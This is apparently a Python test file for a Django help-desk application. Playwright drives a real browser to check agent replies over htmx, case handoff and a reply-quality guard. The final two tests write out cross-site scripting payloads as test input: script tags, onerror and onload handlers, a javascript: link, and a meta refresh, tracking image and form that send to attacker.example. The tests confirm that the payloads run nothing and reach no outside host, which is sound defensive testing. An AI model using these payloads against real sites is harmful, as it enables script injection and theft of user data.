"""The desk in a real browser (Debian's Chromium driven by Playwright): an agent replies through
htmx, hands a case off, and the receiver accepts it; a customer's hostile text runs no script.
Screenshots of each page are saved in test-artifacts/ for people to look at."""

from __future__ import annotations

from typing import Any

import pytest

from browsing import csp_violations, shot, sign_in
from pomogu.cases.models import Case
from pomogu.contact.models import OutboxMessage
from pomogu.core.testing import Cast

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


def test_agent_replies_and_hands_off_and_the_receiver_accepts(
    browser: Any, live_server: Any, cast: Cast
) -> None:
    case = cast.open_case(subject="Нет интернета в офисе", body="С утра не работает интернет.")
    owner = case.owner.username

    page = sign_in(browser, live_server, owner)
    blocked = csp_violations(page)
    shot(page, "desk-my-work")
    page.click("text=Нет интернета в офисе")
    page.wait_for_url(f"**/cases/{case.number}/")
    shot(page, "desk-case")

    reply = page.locator(f"form[action='/cases/{case.number}/reply/']")
    reply.locator("textarea[name=body]").fill("Здравствуйте! Проверяем линию, ответим до 12:00.")
    with page.expect_response(lambda r: r.url.endswith("/reply/")) as answer:
        reply.locator("button[type=submit]").click()
    assert answer.value.request.headers.get("hx-request") == "true"  # htmx, not a reload
    page.wait_for_selector("text=ответим до 12:00")
    assert OutboxMessage.objects.filter(case=case).count() == 1
    shot(page, "desk-case-after-reply")

    page.click("text=Hand the case off")
    handoff = page.locator(f"form[action='/cases/{case.number}/handoff/']")
    handoff.locator("select[name=to_team]").select_option(label="Billing")
    handoff.locator("textarea[name=reason]").fill("Похоже, дело в неоплаченном счёте")
    handoff.locator("button[type=submit]").click()
    page.wait_for_selector("text=Withdraw the handoff")
    assert Case.objects.get(pk=case.pk).owner.username == owner

    carol = sign_in(browser, live_server, "carol")
    blocked += csp_violations(carol)
    shot(carol, "desk-carol-waiting-handoff")
    carol.click("text=Нет интернета в офисе")
    with carol.expect_response(lambda r: r.url.endswith("/accept/")):
        carol.click("button:has-text('Accept the case')")
    carol.wait_for_selector("button:has-text('Accept the case')", state="detached")
    case.refresh_from_db()
    assert case.owner == cast.carol
    assert case.team == cast.billing
    carol.goto(live_server.url + "/")
    assert carol.locator("text=Нет интернета в офисе").count() >= 1
    shot(carol, "desk-carol-my-work")
    assert blocked == []


def test_agent_sees_the_guard_warn_of_a_brush_off_then_sends_a_good_reply(
    browser: Any, live_server: Any, cast: Cast
) -> None:
    case = cast.open_case(subject="Счёт выставлен дважды", body="Пришло два одинаковых счёта.")
    page = sign_in(browser, live_server, "alice")  # the lead works from the team's queue
    blocked = csp_violations(page)
    page.click("text=Technical support")
    page.wait_for_url("**/team/support/")
    shot(page, "desk-team-queue")
    page.keyboard.press("j")  # the keyboard moves through the queue: the first case is ours
    focused = page.evaluate("document.activeElement.getAttribute('href')")
    assert focused == f"/cases/{case.number}/"
    page.keyboard.press("Enter")
    page.wait_for_url(f"**/cases/{case.number}/")

    body = page.locator("textarea[name=body]").first
    body.fill("Это не наш отдел, обращайтесь в бухгалтерию.")
    warning = page.locator("#guard-feedback .guard--warn")
    warning.wait_for()
    assert "не наш отдел" in warning.inner_text()
    shot(page, "desk-guard-warning")
    assert OutboxMessage.objects.filter(case=case).count() == 0

    good = "Разобрались: второй счёт выставлен по ошибке, мы его отменили. Ничего платить не нужно."
    body.fill(good)
    page.locator("#guard-feedback .guard--ok").wait_for()
    reply = page.locator(f"form[action='/cases/{case.number}/reply/']")
    with page.expect_response(lambda r: r.url.endswith("/reply/")):
        reply.locator("button[type=submit]").click()
    page.wait_for_selector("text=второй счёт выставлен по ошибке")
    sent = OutboxMessage.objects.get(case=case)
    assert "второй счёт выставлен по ошибке" in sent.body
    shot(page, "desk-good-reply-sent")
    assert blocked == []


def test_hostile_customer_text_runs_no_script(browser: Any, live_server: Any, cast: Cast) -> None:
    hostile = (
        '<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2">'
        '<svg onload="window.__pwned = 3"></svg>'
    )
    case = cast.open_case(subject="<b>Срочно</b>", body=hostile)
    page = sign_in(browser, live_server, case.owner.username)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(f"{live_server.url}/cases/{case.number}/")
    page.wait_for_selector("text=window.__pwned = 1")  # shown as text, verbatim
    assert page.evaluate("window.__pwned === undefined")
    assert dialogs == []
    shot(page, "desk-hostile-text")


def test_hostile_html_mail_runs_no_script_and_reaches_no_attacker(
    browser: Any, live_server: Any, cast: Cast
) -> None:
    """IN-6, SEC-2: an HTML mail full of script vectors, shown with its formatting in the
    sandboxed frame: no dialog, no script, no request to the attacker's host."""
    from email.message import EmailMessage

    from pomogu.intake.services import receive

    hostile = (
        '<meta http-equiv="refresh" content="0;url=https://attacker.example/refresh">'
        "<p>Visible <b>formatted</b> text from the customer.</p>"
        "<script>window.__pwned = 1; alert('script')</script>"
        "<img src=x onerror=\"window.__pwned = 2; alert('img')\">"
        '<img src="https://attacker.example/track.gif">'
        "<svg onload=\"window.__pwned = 3; alert('svg')\"></svg>"
        "<iframe srcdoc=\"<script>parent.__pwned = 4; alert('srcdoc')</script>\"></iframe>"
        "<a href=\"javascript:window.__pwned = 5; alert('link')\">click me</a>"
        '<form action="https://attacker.example/steal"><input name=q><button>Go</button></form>'
        '<div style="background:url(https://attacker.example/bg.png)">styled</div>'
    )
    message = EmailMessage()
    message["From"] = "Dave Customer <dave@customer.test>"
    message["To"] = "support@desk.test"
    message["Subject"] = "Hostile HTML"
    message["Message-ID"] = "<hostile-html@customer.test>"
    message.set_content("Visible formatted text from the customer.")
    message.add_alternative(hostile, subtype="html")
    inbound = receive(
        message.as_bytes(), mailbox=None, recipient="support@desk.test", source="api"
    ).inbound
    case = inbound.case
    assert case is not None

    page = sign_in(browser, live_server, case.owner.username)
    dialogs: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("request", lambda r: requests.append(r.url))
    page.goto(f"{live_server.url}/cases/{case.number}/")
    page.click("text=Show the original formatting")
    frame_element = page.wait_for_selector("iframe[sandbox='']")
    assert frame_element.get_attribute("sandbox") == ""
    frame = page.frame_locator("iframe[sandbox='']")
    frame.locator("text=formatted").wait_for()
    assert frame.locator("script, svg, iframe, form, meta[http-equiv]").count() == 0
    page.wait_for_timeout(500)  # give a refresh or a late handler its chance
    assert page.evaluate("window.__pwned === undefined")
    inner = frame_element.content_frame()
    assert inner is not None
    assert inner.evaluate("window.__pwned === undefined")
    assert dialogs == []
    assert not [url for url in requests if "attacker.example" in url], requests
    assert page.url == f"{live_server.url}/cases/{case.number}/"
    shot(page, "desk-hostile-html-mail")
